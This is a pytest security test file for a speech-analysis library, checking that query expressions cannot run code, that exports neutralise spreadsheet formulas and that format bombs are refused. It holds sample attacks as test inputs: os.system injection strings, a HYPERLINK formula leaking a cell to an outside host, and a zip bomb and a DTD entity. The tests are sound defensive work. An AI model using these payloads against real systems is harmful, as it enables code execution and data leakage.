"""Security (issue 19): text a user passes on from someone else runs no code and writes no file."""

from __future__ import annotations

import pandas as pd
import pytest
from conftest import GOOD_SPEECH, write

import lectureanalysis as la
from lectureanalysis.analysis.selection import select

#: the notes every report gives on a small corpus (comparisons left out, how followed terms are counted, speeches
#: without a year): asserted once on the main job (test_report.test_the_main_job_says_what_it_warns)
pytestmark = [pytest.mark.filterwarnings("ignore::lectureanalysis.errors.ComparisonWarning"),
              pytest.mark.filterwarnings("ignore::lectureanalysis.errors.TermWarning"),
              pytest.mark.filterwarnings("ignore:by. \\d+ speech:lectureanalysis.errors.CorpusWarning"),
              ]


TABLE = pd.DataFrame({
    "speech_id": ["s0", "s1", "s2", "s3", "s4"],
    "year": pd.array([1990, 2000, 2013, 2020, None], dtype="Int64"),
    "collection": ["a", "a", "b", "b", "b"],
    "speaker title": ["省长", "市长", "省长", "", None],
    "title": ["关于改革的报告", "讲话.*", "政府工作报告", "在会上的讲话", None],
})


@pytest.mark.parametrize("expression", [
    "year >= 2013", "2000 <= year < 2020", "collection == 'b' and year > 2000", "not (year > 2000)",
    "~(year > 2000) | (collection == 'a')", "year in [1990, 2013]", "year not in [1990]", "`speaker title` == '省长'",
    "year + 1 > 2014", "year / 2 > 1000", "-year < -2000", "(year > 1995) & (year < 2015) or collection == 'a'",
    "year != 2000", "collection in ('a',)",
])
def test_the_language_selects_what_pandas_query_selects(expression):
    # an independent implementation of the same expressions (on a trusted table, in this test only)
    expected = TABLE.query(expression, engine="python")["speech_id"].tolist()
    assert TABLE.loc[select(TABLE, expression).to_numpy(), "speech_id"].tolist() == expected


def test_string_tests_are_literal_and_missing_values_are_false():
    assert TABLE.loc[select(TABLE, "title.str.contains('.*')").to_numpy(), "speech_id"].tolist() == ["s1"]
    assert select(TABLE, "title.str.startswith('关于')").tolist() == [True, False, False, False, False]
    assert select(TABLE, "title.str.endswith('讲话')").tolist() == [False, False, False, True, False]
    assert select(TABLE, "title.str.contains('报告', case=False) and year < 2000").tolist() == [True] + [False] * 4


@pytest.mark.parametrize(("expression", "said"), [
    ("@pd.io.common.os.system('id > pwned.txt') == 0", "uses '@', which names Python objects"),
    ("speech_id.to_csv('x.csv') != ''", "calls \"speech_id.to_csv('x.csv')\""),
    ("__import__('os').system('touch pwned.txt') == 0", "calls"),
    ("year.__class__ == 1", "uses an attribute (year.__class__)"),
    ("title.str.contains('a', regex=True)", "calls"),
    ("title.str.contains(title)", "calls"),
    ("[c for c in 'ab'] == 1", "uses a comprehension"),
    ("2 ** 1000000 > year", "uses **"),
    ("year > 1e300", "the number 1e+300 is out of bounds"),
    ("(lambda: 1)() == 1", "calls"),
    ("year[0] == 1", "uses a subscript"),
    ("{'a': 1} == year", "uses a dict"),
    ("year if year else year", "uses an if-expression"),
    ("f'{year}' == '1'", "uses an f-string"),
    ("year is None", "uses is"),
    ("nonexistent > 1", "names 'nonexistent', which is no column"),
    ("year", "is not a selection"),
    ("year >", "is not an expression"),
    ("-" * 1990 + "1 < year", "nested"),  # no RecursionError
])
def test_anything_outside_the_language_is_refused_naming_it(tmp_path, monkeypatch, expression, said):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ValueError, match="target: ") as raised:
        la.plan_comparisons(TABLE, target=expression)
    assert said in str(raised.value)
    assert not list(tmp_path.iterdir()), "nothing was written"


@pytest.mark.parametrize("expression", ["@pd.io.common.os.system('id > pwned.txt') == 0",
                                        "speech_id.to_csv('x.csv') != ''"])
def test_the_command_line_refuses_code_in_target_and_reference(tmp_path, monkeypatch, capsys, expression):
    from lectureanalysis.cli import main

    corpus = tmp_path / "corpus"
    for year in (2019, 2020, 2021, 2022):
        write(corpus, f"{year}.txt", GOOD_SPEECH)
    monkeypatch.chdir(tmp_path)
    for option in ("--target", "--reference"):
        args = [option, expression] if option == "--target" else ["--target", "year >= 2021", option, expression]
        assert main(["report", str(corpus), "--out", str(tmp_path / "out"), *args]) == 2
        assert "error: " in capsys.readouterr().err
    assert not (tmp_path / "pwned.txt").exists() and not (tmp_path / "x.csv").exists()
    assert not (tmp_path / "out" / "index.html").exists()


FORMULA = '=HYPERLINK("http://example.invalid/?x="&A2,"点击")'


@pytest.mark.slow
def test_no_exported_cell_is_a_formula(tmp_path):
    import csv

    from openpyxl import load_workbook

    from lectureanalysis.report import build_report

    corpus = tmp_path / "corpus"
    write(corpus, "2019.txt", FORMULA + "\n" + GOOD_SPEECH.split("\n", 1)[1])
    write(corpus, "=cmd.txt", "+SUM(1,2)\n" + GOOD_SPEECH.split("\n", 1)[1].replace("狠抓落实", "改革创新"))
    out = tmp_path / "out"
    build_report(corpus, out)
    workbooks = sorted((out / "tables").glob("*.xlsx"))
    assert workbooks, "the .xlsx tables are written (openpyxl is installed with the test extra)"
    for path in workbooks:
        for sheet in load_workbook(path).worksheets:
            formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
            assert not formulas, f"{path.name}: formula cells {formulas[:5]}"
    speeches_sheet = load_workbook(out / "tables" / "speeches.xlsx").active
    assert FORMULA in [c.value for row in speeches_sheet.iter_rows() for c in row], "the text is kept as it is"
    for path in sorted((out / "tables").glob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], path.name
    table = la.read_table(out / "tables" / "speeches.csv")
    assert set(table["title"]) == {FORMULA, "+SUM(1,2)"} and "=cmd.txt" in set(table["source_file"])


def test_every_kind_of_column_is_guarded_and_given_back(tmp_path):
    from lectureanalysis.io.export import write_csv

    frame = pd.DataFrame({
        "text": pd.Series(["=1+1", "讲话", None, "-负"], dtype="str"),  # a string column, tested as a whole
        "mixed": pd.Series(["@x", 3, None, "ok"], dtype=object),  # values of several kinds, cell by cell
        "number": [-5, 2, 3, -1],  # never changed
        "kind": pd.Categorical(["+a", "b", "b", "+a"]),
    })
    path = write_csv(frame, tmp_path / "t.csv")
    lines = path.read_text(encoding="utf-8-sig").splitlines()
    assert lines == ["text,mixed,number,kind", "'=1+1,'@x,-5,'+a", "讲话,3,2,b", ",,3,b", "'-负,ok,-1,'+a"]
    back = la.read_table(path)
    assert back["text"].tolist()[:2] == ["=1+1", "讲话"] and back["kind"].tolist() == ["+a", "b", "b", "+a"]
    assert frame["text"].tolist()[0] == "=1+1", "the table written is left as it was"


def test_the_dfm_export_is_guarded_too(tmp_path):
    tokens = pd.DataFrame({"speech_id": ["=a", "=a", "b"], "token": ["=SUM(1)", "改革", "-1"], "is_stopword": False,
                           "para_id": 0, "token_idx": [0, 1, 0]})
    matrix = la.dfm(tokens.astype({"token": "category"}))
    paths = matrix.write(tmp_path / "dfm")
    raw = paths[3].read_text("utf-8-sig")
    assert "\n=" not in raw and ",=" not in raw and ",-1," not in raw
    back = la.read_table(paths[3])
    assert set(back["doc"]) == {"=a", "b"} and set(back["feature"]) == {"=SUM(1)", "改革", "-1"}


# -- format bombs --------------------------------------------------------------------------------------


def docx_with(document_xml: bytes) -> bytes:
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", document_xml)
    return buffer.getvalue()


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def test_a_docx_that_unpacks_past_max_bytes_is_refused_and_the_rest_loads(tmp_path):
    body = f"<w:document {W}><w:body>" + "<w:p><w:r><w:t>讲话</w:t></w:r></w:p>" * 100_000 + "</w:body></w:document>"
    (tmp_path / "bomb.docx").write_bytes(docx_with(body.encode()))
    assert (tmp_path / "bomb.docx").stat().st_size < 200_000  # small on disk, 3.6 MB unpacked
    write(tmp_path, "speech.txt", GOOD_SPEECH)
    with pytest.warns(la.CorpusWarning, match=r"bomb\.docx: word/document\.xml unpacks to 4 MB, more than max_bytes "
                                              r"\(1 MB\): not read"):
        speeches = la.load_speeches(tmp_path, max_bytes=1_000_000, progress=False)
    assert speeches["speech_id"].tolist() == ["speech"]


def test_a_dtd_is_found_by_the_parser_in_any_encoding(tmp_path):
    bomb = (f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w:document [<!ENTITY a "讲话讲话讲话">]>'
            f"<w:document {W}><w:body><w:p><w:r><w:t>&a;</w:t></w:r></w:p></w:body></w:document>")
    (tmp_path / "dtd.docx").write_bytes(docx_with(bomb.encode("utf-16")))
    with pytest.raises(la.CorpusError, match=r"dtd\.docx: word/document\.xml declares a DTD"):
        la.load_speeches(tmp_path / "dtd.docx", errors="raise")


def test_a_huge_web_page_is_refused_before_extraction(tmp_path):
    pytest.importorskip("trafilatura")
    page = "<html><body><article>" + "<p>各位代表：现在我代表政府报告工作。</p>" * 400_000 + "</article></body></html>"
    (tmp_path / "huge.html").write_bytes(page.encode("utf-8"))
    with pytest.raises(la.CorpusError, match=r"huge\.html: a web page of \d+\.\d MB, more than the 20 MB an article "
                                             r"page holds: not read"):
        la.load_speeches(tmp_path / "huge.html", errors="raise")


def test_a_pdf_of_too_many_pages_is_refused(tmp_path, monkeypatch):
    pytest.importorskip("pypdfium2")
    pypdf = pytest.importorskip("pypdf")
    from lectureanalysis.io import pdf

    writer = pypdf.PdfWriter()
    for _ in range(30):
        writer.add_blank_page(width=595, height=842)
    with (tmp_path / "pages.pdf").open("wb") as handle:
        writer.write(handle)
    monkeypatch.setattr(pdf, "MAX_PDF_PAGES", 20)
    with pytest.raises(la.CorpusError, match=r"pages\.pdf: a PDF of 30 pages, more than the 20 a speech could fill"):
        la.load_speeches(tmp_path / "pages.pdf", errors="raise")
    monkeypatch.setattr(pdf, "MAX_PDF_PAGES", 2_000)
    monkeypatch.setattr(pdf, "PDF_SECONDS", -1.0)  # every page is past the time allowed
    with pytest.raises(la.CorpusError, match=r"pages\.pdf: reading its text took more than -1 s \(stopped at page 1 of 30\)"):
        la.load_speeches(tmp_path / "pages.pdf", errors="raise")


def test_a_converter_that_hangs_is_stopped(tmp_path, monkeypatch):
    import shutil

    from lectureanalysis.io import word

    folder = tmp_path / "bin"
    folder.mkdir()
    tool = folder / "antiword"
    tool.write_text(f"#!/bin/sh\n{shutil.which('sleep')} 30\n")
    tool.chmod(0o755)
    monkeypatch.setenv("PATH", str(folder))
    monkeypatch.setattr(word, "CONVERT_SECONDS", 1)
    (tmp_path / "hang.doc").write_bytes(b"\xd0\xcf\x11\xe0" + bytes(512))
    with pytest.raises(la.CorpusError, match=r"hang\.doc: antiword did not finish converting it in 1 s: not read"):
        la.load_speeches(tmp_path / "hang.doc", errors="raise")


@pytest.mark.parametrize(("option", "said"), [
    (["--window", "1000000000"], "error: window: expected a whole number from 1 to 100, got 1000000000"),
    (["--min-count", "-5"], "error: min_count: expected a whole number >= 1, got -5"),
    (["--font", "/nonexistent.ttf"], "/nonexistent.ttf"),
    (["--stopwords", "/etc"], "error: --stopwords: /etc is a folder; give a word-list file"),
    (["--stopwords", "mine/words.txt"], "error: --stopwords: mine/words.txt is no such file"),
])
def test_bad_sizes_and_paths_end_before_any_work(tmp_path, capsys, option, said):
    from lectureanalysis.cli import main

    corpus = tmp_path / "corpus"
    write(corpus, "2019.txt", GOOD_SPEECH)
    assert main(["report", str(corpus), "--out", str(tmp_path / "out"), *option]) == 2
    err = capsys.readouterr().err
    assert said in err and "Traceback" not in err
    assert "· segmenting" not in err, "it ended before the work"
    assert not (tmp_path / "out" / "index.html").exists()


def test_max_bytes_on_the_command_line(tmp_path, capsys):
    from lectureanalysis.cli import main

    write(tmp_path, "big.txt", GOOD_SPEECH + "".join(f"第{i}项工作要抓好落实。\n" for i in range(200)))
    write(tmp_path, "small.txt", "讲话\n同志们：\n今天开会。\n")
    assert main(["summary", str(tmp_path), "--max-bytes", "2000"]) == 0
    err = capsys.readouterr().err
    assert "big.txt: larger than max_bytes=2,000 bytes" in err and "(--max-bytes on the command line)" in err
    assert main(["summary", str(tmp_path), "--max-bytes", str(10**9)]) == 0
    assert "big.txt" not in capsys.readouterr().err
